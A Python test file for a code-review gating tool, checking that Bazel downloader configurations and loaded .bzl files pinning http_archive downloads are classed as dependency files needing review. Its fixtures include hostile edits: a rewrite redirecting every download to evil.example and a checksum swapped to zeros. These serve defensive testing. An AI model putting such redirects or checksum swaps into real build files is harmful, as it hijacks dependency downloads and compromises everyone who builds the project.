"""Issue 12, `--tree`: files a Bazel workspace reads for where its dependencies come from (cfgarg2, bazelreads.py).

A `.bazelrc` line `common --experimental_downloader_config=downloader.cfg` hands Bazel a file whose `rewrite` lines
decide which host every external archive is fetched from (distroless' `downloader.cfg`, labelled `deps` in the
forty-sixth set); a `.bzl` file `MODULE.bazel` or `WORKSPACE` loads that calls `http_archive(` pins external code as a
lock file does. Under names no rule knows both were `src`, and a change redirecting the downloads or swapping an
archive's URL and checksum was allowed with `gate --tree --enable deps` (exit 0 on f1405b6). Now both are `deps`
(`deps.context.included`), from either tree. A `.bzl` file that only defines rules stays source; another
repository's labels (`@rules_go//go:deps.bzl`) and a commented flag name nothing.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

from gitrepo import two_commits
from incli import run_cli, tree_classify, tree_gate
from tables import each_case

from gatekeeper.classify.bazelreads import included
from gatekeeper.gitobjects import TreeEntry

HTTP = 'load("@bazel_tools//tools/build_defs/repo:http.bzl", "http_archive")\n'
ARCHIVE = ('def busybox():\n    http_archive(\n        name = "busybox_amd64",\n'
           '        urls = ["https://busybox.net/downloads/binaries/busybox-x86_64"],\n'
           '        sha256 = "{sha}",\n    )\n')
GOOD, EVIL = "6e123e7f3202a8c1e9b1f94d8941580a25135382b99e8d3e34fb858bba311348", "0" * 64

# name: (base files, the file edited, its new text)
CASES: dict[str, tuple[dict[str, str], str, str]] = {
    "downloader config": ({".bazelrc": "common --enable_bzlmod\n"
                                       "common --experimental_downloader_config=downloader.cfg\n",
                           "downloader.cfg": "rewrite (mirrors\\.kernel\\.org)/gnu/(.*) https://ftp.gnu.org/gnu/$2\n"},
                          "downloader.cfg", "rewrite (.*) https://evil.example/$1\n"),
    "downloader config, imported rc": ({".bazelrc": "try-import %workspace%/tools/remote.rc\n",
                                        "tools/remote.rc": "build --downloader_config %workspace%/tools/dl.conf\n",
                                        "tools/dl.conf": "allow github.com\n"},
                                       "tools/dl.conf", "allow evil.example\n"),
    "module extension": ({"MODULE.bazel": 'bazel_dep(name = "rules_oci", version = "2.0.0")\n'
                                          'busybox = use_extension("//private/extensions:busybox.bzl", "busybox")\n',
                          "private/extensions/busybox.bzl": HTTP + ARCHIVE.format(sha=GOOD)},
                         "private/extensions/busybox.bzl", HTTP + ARCHIVE.format(sha=EVIL)),
    "workspace load, followed": ({"WORKSPACE": 'load("//tools:repos.bzl", "repos")\nrepos()\n',
                                  "tools/repos.bzl": 'load(":pins.bzl", "pins")\ndef repos():\n    pins()\n',
                                  "tools/pins.bzl": HTTP + 'load("@bazel_tools//tools/build_defs/repo:utils.bzl",'
                                  ' "maybe")\ndef pins():\n    maybe(\n        http_archive,\n        name = "z",\n'
                                  '        urls = ["https://zlib.net/zlib-1.3.tar.gz"],\n    )\n'},
                                 "tools/pins.bzl", HTTP + "def pins():\n    pass\n"),
}


def _case(tmp_path: Path, name: str) -> tuple[Path, str, str, str]:
    base, path, after = CASES[name]
    repo, first, last = two_commits(tmp_path / "r", {"README.md": "x\n", **base}, {path: after})
    return repo.root, first, last, path


@each_case("name", sorted(CASES))
def test_a_file_the_workspace_reads_for_its_dependencies_is_deps(tmp_path: Path, name: str) -> None:
    """Each was src and allowed (gate --tree --enable deps exit 0) on f1405b6."""
    root, first, last, path = _case(tmp_path, name)
    found = tree_classify(root, first, last)[path]
    assert (found["bucket"], found["rule"]) == ("deps", "deps.context.included"), found
    code, decision = tree_gate(root, first, last, None, "--enable", "deps")
    assert code == 3 and decision["outcome"] == "review", decision


def test_a_change_cannot_drop_the_naming_line_to_escape(tmp_path: Path) -> None:
    base = {"README.md": "x\n", ".bazelrc": "common --experimental_downloader_config=dl.cfg\n", "dl.cfg": "allow a\n",
            "MODULE.bazel": 'x = use_extension("//:ext.bzl", "x")\n', "ext.bzl": HTTP + ARCHIVE.format(sha=GOOD)}
    head = {".bazelrc": "common --jobs=4\n", "dl.cfg": "rewrite (.*) https://evil.example/$1\n",
            "MODULE.bazel": "\n", "ext.bzl": HTTP + ARCHIVE.format(sha=EVIL)}
    repo, first, last = two_commits(tmp_path / "r", base, head)
    found = tree_classify(repo.root, first, last)
    assert found["dl.cfg"]["bucket"] == "deps" and found["ext.bzl"]["bucket"] == "deps", found
    done = run_cli(["classify", "--tree", f"{first}..{last}", "--repo", repo.root, "--explain", "dl.cfg"], text=True)
    assert done.returncode == 0 and ".bazelrc:1 reads dl.cfg" in str(done.stdout), done.stdout
    # the evidence is the loading line (the base's MODULE.bazel line 1), not the fetch's line in the .bzl file
    done = run_cli(["classify", "--tree", f"{first}..{last}", "--repo", repo.root, "--explain", "ext.bzl"], text=True)
    assert done.returncode == 0 and "MODULE.bazel:1 reads ext.bzl" in str(done.stdout), done.stdout


def test_look_alikes_keep_their_class(tmp_path: Path) -> None:
    """A loaded .bzl of rules only, a .bzl no workspace loads (a ruleset's own source), another repository's label,
    a commented flag, an absolute path: none made deps."""
    base = {"README.md": "x\n",
            ".bazelrc": "# common --experimental_downloader_config=old.cfg\nbuild --downloader_config=/etc/dl.cfg\n",
            "old.cfg": "allow a\n",
            "MODULE.bazel": 'load("//tools:defs.bzl", "x")\ny = use_extension("@rules_go//go:extensions.bzl", "go")\n',
            "tools/defs.bzl": "def _impl(ctx):\n    pass\nmy_rule = rule(implementation = _impl)\n",
            "examples/unused.bzl": HTTP + ARCHIVE.format(sha=GOOD)}
    edited = {"old.cfg": "allow b\n", "tools/defs.bzl": "def _impl(ctx):\n    return []\n",
              "examples/unused.bzl": HTTP + ARCHIVE.format(sha=EVIL)}
    repo, first, last = two_commits(tmp_path / "r", base, edited)
    found = tree_classify(repo.root, first, last)
    assert {path: found[path]["bucket"] for path in edited} == dict.fromkeys(edited, "src"), found


def test_past_the_bound_every_file_counts_as_read(tmp_path: Path) -> None:
    """A `.bazelrc` longer than is read may name anything further down: fail closed."""
    repo, first, last = two_commits(tmp_path / "r", {"README.md": "x\n", "notes.cfg": "a\n",
                                                     ".bazelrc": "build --jobs=4\n" * 80_000},
                                    {"notes.cfg": "b\n"})
    # Past the bound it may also name a program Bazel runs (red team 38's hooks: the workspace status command, a
    # credential helper): `ci`, which reviews as `deps` did, and more.
    assert tree_classify(repo.root, first, last)["notes.cfg"]["bucket"] == "ci"


def test_what_the_reader_names() -> None:
    blobs = {"1": b"import %workspace%/ci/x.rc\n", "2": b"fetch --experimental_downloader_config='cfg/d.txt'\n",
             "3": b'load("@//bazel:deps.bzl", "d")\nload("@other//:x.bzl", "x")\n', "4": b"git_repository(name='a')\n"}
    tree = {".bazelrc": TreeEntry("100644", "1"), "ci/x.rc": TreeEntry("100644", "2"),
            "sub/WORKSPACE.bazel": TreeEntry("100644", "3"), "sub/bazel/deps.bzl": TreeEntry("100644", "4")}
    found = included((tree,), lambda entry: blobs[entry.oid])
    # a relative value from the workspace (where Bazel runs) and from the imported file's folder: both
    assert found == {"cfg/d.txt": "ci/x.rc:1", "ci/cfg/d.txt": "ci/x.rc:1",
                     "sub/bazel/deps.bzl": "sub/WORKSPACE.bazel:1"}


def test_from_a_patch_a_downloader_configuration_needs_context(tmp_path: Path) -> None:
    """The `.bazelrc` naming it is out of a patch's sight: the file is `needs-context` (the core policy reviews it)."""
    base, path, after = CASES["downloader config"]
    repo, first, last = two_commits(tmp_path / "r", {"README.md": "x\n", **base}, {path: after})
    patch = subprocess.run(["git", "-C", str(repo.root), "diff", first, last], check=True, capture_output=True).stdout
    (tmp_path / "p.diff").write_bytes(patch)
    done = run_cli(["classify", str(tmp_path / "p.diff"), "--format", "json"], text=True)
    found = {f["path"]: f for f in json.loads(str(done.stdout))["files"]}[path]
    assert "needs-context" in found["tags"], found
